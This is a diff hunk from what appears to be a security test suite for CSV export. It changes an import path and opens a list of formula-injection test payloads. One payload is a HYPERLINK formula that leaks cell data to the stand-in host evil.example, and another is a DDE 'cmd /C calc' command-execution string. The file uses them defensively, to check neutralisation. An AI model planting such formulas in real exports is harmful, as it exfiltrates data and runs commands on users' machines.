@@ -10,7 +10,7 @@ import httpx
 from hypothesis import given
 from hypothesis import strategies as st
 
-from ops_center.kpi.csvio import FORMULA_TRIGGERS, neutralise, restore
+from kpi.csvio import FORMULA_TRIGGERS, neutralise, restore
 from tests.security.conftest import WebProcess, bearer, login
 
 FORMULAS = ('=HYPERLINK("http://evil.example/?d="&A1,"click")', "+1+cmd|' /C calc'!A0",
